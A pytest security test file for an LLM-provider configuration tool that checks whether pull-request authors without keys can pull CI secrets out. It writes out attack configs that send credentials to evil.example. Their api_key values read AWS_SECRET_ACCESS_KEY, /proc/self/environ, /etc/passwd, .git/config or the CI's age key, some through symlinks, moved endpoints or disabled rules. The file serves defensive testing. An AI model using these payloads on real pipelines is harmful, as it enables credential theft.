"""Attacks of somebody who can send a pull request and holds no key, on a CI that holds keys and secrets.

Whatever they write: nothing secret leaves, and the attempt is reported.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from secret_support import CI_SECRETS, SEALED, Lab, leaks, search

_DUMP = "import json, os, sys; json.dump(dict(os.environ), open(sys.argv[1], 'w'))"
_OWN = {
    "LLMCONF_OPENAI_MAIN_API_KEY",
    "LLMCONF_ANTHROPIC_MAIN_API_KEY",
    "LLMCONF_GATEWAY_INNER_HEADER_X_API_KEY",
}
"""Variables that the command gets from the lab as it is."""
_EVIL = """\
kind: Provider
name: evil
type: vllm
endpoints:
  - name: main
    url: https://evil.example/v1
credentials:
  - name: main
    hosts: [evil.example]
    api_key: {value}
models:
  - id: model
    capabilities: [chat]
"""


def _secrets(lab: Lab) -> list[str]:
    return [*SEALED, *CI_SECRETS.values(), lab.identity]


def _exec(lab: Lab, *options: str, env: str = "dev", **variables: str) -> tuple[int, str, dict[str, str] | None]:
    """Run a command as CI does, with a key and secrets; return status, what was said, and the child's environment."""
    dump = lab.home / "child.json"
    dump.unlink(missing_ok=True)
    done = lab.run("exec", "--env", env, *options, "--", sys.executable, "-c", _DUMP, dump, ci=True, env=variables)
    child = json.loads(dump.read_text()) if dump.exists() else None
    dump.unlink(missing_ok=True)
    return done.returncode, done.stdout + done.stderr, child


def _said(lab: Lab, *args: str, key: bool = False, stdin: str = "") -> tuple[int, str]:
    done = lab.run(*args, ci=True, key=key, stdin=stdin)
    return done.returncode, done.stdout + done.stderr


def _nothing_left(lab: Lab, *texts: str) -> None:
    """Check that no secret stands in what was said, nor in any file of the lab."""
    for text in texts:
        assert leaks(text, _secrets(lab)) == []
    assert search([lab.root, lab.home], _secrets(lab)) == []


@dataclass(frozen=True)
class Refused:
    """An attempt that `exec` refuses: what it changes, what is said, and what `validate` says, if it can tell."""

    change: Callable[[Lab], object]
    status: int
    says: str
    validate: str | None = None
    env: str = "dev"
    options: tuple[str, ...] = ()


def _evil(value: str) -> Callable[[Lab], object]:
    return lambda lab: lab.write("config/evil.yaml", _EVIL.format(value=value))


def _copied(lab: Lab) -> None:
    lab.write("config/evil.yaml", _EVIL.format(value=lab.token("config/openai.yaml")))


def _linked(target: str) -> Callable[[Lab], object]:
    def change(lab: Lab) -> None:
        (lab.root / "config" / "data").symlink_to(target)
        _evil("file:config/data")(lab)

    return change


def _header(value: str) -> Callable[[Lab], object]:
    text = _EVIL.format(value="env:LLMCONF_HARMLESS").replace(
        "url: https://evil.example/v1", f"url: https://evil.example/v1\n    headers: {{X-Data: '{value}'}}"
    )
    return lambda lab: lab.write("config/evil.yaml", text)


def _moved_endpoint(lab: Lab) -> None:
    lab.edit("config/openai.yaml", "https://api.openai.com/v1", "https://evil.example/v1")


def _moved_and_named(lab: Lab) -> None:
    """Move the endpoint, name the credential, and have the rule look away."""
    lab.edit("config/openai.yaml", "https://api.openai.com/v1", "https://evil.example/v1\n    credential: main")
    lab.edit("llmconf.yaml", "targets:", 'rules: {LCE004: "off", LCK010: "off"}\ntargets:')


def _edited_hosts(lab: Lab) -> None:
    _moved_endpoint(lab)
    lab.edit("config/openai.yaml", "hosts: [api.openai.com]", "hosts: [evil.example]")


def _added_host(lab: Lab) -> None:
    lab.edit("config/openai.yaml", "hosts: [api.openai.com]", "hosts: [api.openai.com, evil.example]")


def _unmarked_hosts(lab: Lab) -> None:
    """Edit the hosts and take the public digests off, so that nothing shows without a key."""
    _edited_hosts(lab)
    (lab.root / "environments/prod/openai.yaml").unlink()
    token = lab.token("config/openai.yaml")
    lab.edit("config/openai.yaml", token, ";".join(part for part in token.split(";") if not part.startswith("b=")))


def _overlay(text: str) -> Callable[[Lab], object]:
    return lambda lab: lab.write("environments/dev/more.yaml", text)


_MOVED = """\
kind: Provider
name: {provider}
endpoints:
  - {{name: {endpoint}, url: "https://evil.example/v1"{more}}}
"""
_REBOUND = _MOVED.format(provider="openai", endpoint="global", more="") + (
    "credentials:\n  - {name: main, hosts: [evil.example]}\n"
)
_SILENT = 'rules: {LCE004: "off", LCK015: "off", LCE006: "off", LCK006: "off", LCK010: "off"}\ntargets:'


def _silenced(change: Callable[[Lab], object]) -> Callable[[Lab], object]:
    def both(lab: Lab) -> None:
        change(lab)
        lab.edit("llmconf.yaml", "targets:", _SILENT)

    return both


def _everywhere(lab: Lab) -> None:
    """Add an endpoint to a provider that sends a sealed header to all of its endpoints."""
    lab.edit("config/gateway.yaml", "type: vllm", "type: vllm\nheaders: {X-Api-Key: fakeHeaderfakeHeaderfake1}")
    lab.run("secrets", "encrypt")
    lab.edit("config/gateway.yaml", "name: inner", "name: inner\n    default: true")
    endpoint = '{name: eu, $new: true, url: "https://evil.example/v1", default: true}'
    inner = "{name: inner, default: false}"
    _overlay(f"kind: Provider\nname: gateway\nendpoints:\n  - {inner}\n  - {endpoint}\n")(lab)


def _other_vault(lab: Lab) -> None:
    lab.edit("llmconf.yaml", "dev: {}", "dev: {vault: prod}")
    lab.write("environments/dev/more.yaml", (lab.root / "environments/prod/openai.yaml").read_text())


AWS = "AWS_SECRET_ACCESS_KEY"
REFUSED = {
    "variable of CI": Refused(_evil(f"env:{AWS}"), 4, f"`env:{AWS}` is not allowed to this process"),
    "environment of CI": Refused(_evil("file:/proc/self/environ"), 4, "is not allowed to this process"),
    "environment of CI, any file allowed": Refused(
        _evil("file:/proc/self/environ"), 4, "leads out of the repository", options=("--allow-ref", "file:*")
    ),
    "file outside": Refused(_evil("file:../../etc/passwd"), 4, "is not allowed to this process"),
    "file outside, any file allowed": Refused(
        _evil("file:../../../../../../../etc/passwd"), 4, "has `..` steps", options=("--allow-ref", "file:*")
    ),
    "link to the outside": Refused(_linked("/etc/passwd"), 4, "leads out of", options=("--allow-ref", "file:config/*")),
    "link to the environment": Refused(
        _linked("/proc/self/environ"), 4, "leads out of", options=("--allow-ref", "file:config/*")
    ),
    "link within, to what is not allowed": Refused(
        _linked("../.git/config"), 4, "git's own files", options=("--allow-ref", "file:config/*")
    ),
    "steps back to what is not allowed": Refused(
        _evil("file:config/../.git/config"), 4, "has `..` steps", options=("--allow-ref", "file:config/*")
    ),
    "git's own files, any file allowed": Refused(
        _evil("file:.git/config"), 4, "git's own files", options=("--allow-ref", "file:*")
    ),
    "identity of CI": Refused(_evil("env:LLMCONF_AGE_KEY"), 4, "is not allowed", options=("--allow-ref", "env:*")),
    "identity of CI, as SOPS has it": Refused(
        _evil("env:SOPS_AGE_KEY"), 4, "is not allowed", options=("--allow-ref", "env:*")
    ),
    "what is allowed": Refused(_evil("env:LLMCONF_ALLOW_REF"), 4, "is not allowed to any process"),
    "link within": Refused(
        _linked("../deploy.key"), 4, "`file:deploy.key` is not allowed", options=("--allow-ref", "file:config/*")
    ),
    "header": Refused(_header(f"env:{AWS}"), 4, f"`env:{AWS}` is not allowed to this process"),
    "copied token": Refused(_copied, 1, "is a copy of another token", "LCK006"),
    "copied token, rules off": Refused(_silenced(_copied), 1, "sealed for other hosts, for another resource", "LCK017"),
    "moved endpoint": Refused(_moved_endpoint, 1, "`evil.example` is not among the hosts", "LCE004"),
    "moved endpoint, rules off": Refused(_moved_and_named, 1, "credential/openai/main is not sealed for"),
    "edited hosts": Refused(_edited_hosts, 1, "it was sealed for other hosts", "LCK017"),
    "added host": Refused(_added_host, 1, "it was sealed for other hosts", "LCK017"),
    "edited hosts, no digests": Refused(_unmarked_hosts, 1, "the token was altered, or was sealed under"),
    "overlay moves the endpoint": Refused(
        _overlay(_MOVED.format(provider="openai", endpoint="global", more="")), 1, "is not among the hosts", "LCE004"
    ),
    "overlay moves the endpoint, rules off": Refused(
        _silenced(_overlay(_MOVED.format(provider="openai", endpoint="global", more=", credential: main"))),
        1,
        "credential/openai/main is not sealed for",
    ),
    "overlay moves hosts and endpoint": Refused(_overlay(_REBOUND), 1, "sealed for other hosts", "LCK015"),
    "overlay moves hosts and endpoint, rules off": Refused(
        _silenced(_overlay(_REBOUND)), 1, "the token was sealed for other hosts"
    ),
    "overlay moves an endpoint with a header": Refused(
        _overlay(_MOVED.format(provider="gateway", endpoint="inner", more="")), 1, "sealed for other hosts", "LCK015"
    ),
    "overlay moves an endpoint with a header, rules off": Refused(
        _silenced(_overlay(_MOVED.format(provider="gateway", endpoint="inner", more=""))),
        1,
        "the token was sealed for other hosts",
    ),
    "overlay adds an endpoint to a provider with a header": Refused(_everywhere, 1, "sealed for other hosts", "LCK015"),
    "vault of another environment": Refused(_other_vault, 1, "for another environment", "LCK017"),
}


@pytest.mark.parametrize("attempt", REFUSED.values(), ids=REFUSED)
def test_nothing_is_opened(lab: Lab, attempt: Refused) -> None:
    attempt.change(lab)
    status, said, child = _exec(
        lab, *attempt.options, env=attempt.env, SOPS_AGE_KEY=lab.identity, LLMCONF_HARMLESS="fake"
    )
    assert (status, child) == (attempt.status, None), said
    assert attempt.says in said
    validated, report = _said(lab, "validate")
    assert (validated, attempt.validate or "") == (1 if attempt.validate else 0, attempt.validate or ""), report
    assert (attempt.validate or "") in report
    _nothing_left(lab, said, report)
